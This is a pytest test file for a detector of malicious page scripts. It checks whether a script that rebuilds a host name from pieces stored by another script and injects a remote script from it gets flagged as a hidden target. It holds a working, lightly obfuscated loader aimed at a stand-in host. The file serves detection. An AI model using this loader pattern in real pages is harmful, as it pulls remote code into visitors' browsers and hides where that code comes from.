"""What one script of a page keeps and another one takes."""

from __future__ import annotations

import pytest

from tests.detectors.test_malicious_scripts import page, said

TAKES = '(function(c){var e=document.createElement("script");e.src="//"+c.h.join(".")+"/a.js";document.head.append(e)})'


@pytest.mark.parametrize("given", ["window.cfg", "var cfg", "self.cfg", "cfg"])
def test_an_address_that_another_script_keeps_is_followed(given):
    lent = f'<script>{given}={{h:["st","k8","example"]}}</script>'
    assert "hidden-target" in said(page(f"{lent}<script>{TAKES}(window.cfg)</script>"))


@pytest.mark.parametrize(
    "lent",
    [
        'window.cfg={h:["www","example","gov","cn"]}',
        'window.other={h:["st","k8","example"]}',
        'if(window.cfg=={h:["st","k8","example"]})show()',
    ],
)
def test_what_leads_home_or_is_not_taken_is_none(lent):
    assert not said(page(f"<script>{lent}</script><script>{TAKES}(window.cfg)</script>"))
